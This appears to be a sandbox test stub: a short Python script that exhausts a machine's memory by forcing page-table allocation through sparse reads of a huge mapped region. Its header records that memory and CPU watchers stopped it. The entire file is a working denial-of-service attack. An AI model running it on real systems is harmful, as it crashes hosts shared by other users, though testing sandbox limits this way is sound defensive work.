# stub: train
# ends: crashed, timeout
# attack: reads from memory that it never fills, so that page tables alone fill the machine
# stopped-by: memory watch, CPU watch
import ctypes
import mmap

SPACING = 2 << 20  # one table of 4 KB for each
COUNT = 600_000
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
start = libc.mmap(None, COUNT * SPACING, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
libc.madvise(start, COUNT * SPACING, 15)  # no huge pages
peek = ctypes.string_at
for address in range(start, start + COUNT * SPACING, SPACING):
    peek(address, 1)
raise SystemExit("got through: 2 GB of page tables")
